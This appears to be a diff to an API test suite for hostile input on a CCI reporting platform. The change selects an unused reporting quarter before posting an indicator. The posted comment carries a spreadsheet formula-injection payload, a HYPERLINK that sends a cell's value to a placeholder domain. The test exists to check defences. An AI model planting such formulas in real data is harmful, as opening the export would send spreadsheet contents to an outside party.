@@ -203,6 +203,21 @@ describe('hostile input on every endpoint of both APIs', () => {
     const formula = '=HYPERLINK("https://exemple.invalid/?d="&A1;"Voir")';
     const rouen = keys.get('cci-rouen-metropole')!;
     const normandie = keys.get('cci-normandie')!;
+    // The generated requests above may have declared Rouen's figure of a quarter, or closed one of
+    // Normandie's campaigns (each seed writes other cells): the figure goes to a quarter they left alone.
+    const touched = new Set(
+      (await readEvents(platform.kafka, platform.eventsTopic, reference))
+        .map(({ event }) => event.payload as { period?: string; cciId?: string; regionId?: string })
+        .filter((p) => p.cciId === 'cci-rouen-metropole' || p.regionId === 'normandie')
+        .map((p) => p.period),
+    );
+    const period = reference
+      .reportingPeriods('com-normandie-2023-2027')
+      .map((p) => p.period)
+      .filter((p) => p.includes('-T') && p <= '2025-T4')
+      .reverse()
+      .find((p) => !touched.has(p));
+    expect(period).toBeDefined();
     const reported = await call(base.ingest, {
       method: 'POST',
       path: '/v1/commands/report-indicator',
@@ -210,7 +225,7 @@ describe('hostile input on every endpoint of both APIs', () => {
       body: JSON.stringify({
         cciId: 'cci-rouen-metropole',
         indicatorId: 'transmissions-accompagnees',
-        period: '2025-T2',
+        period,
         value: 3,
         unitId: 'entreprises',
         comment: formula,
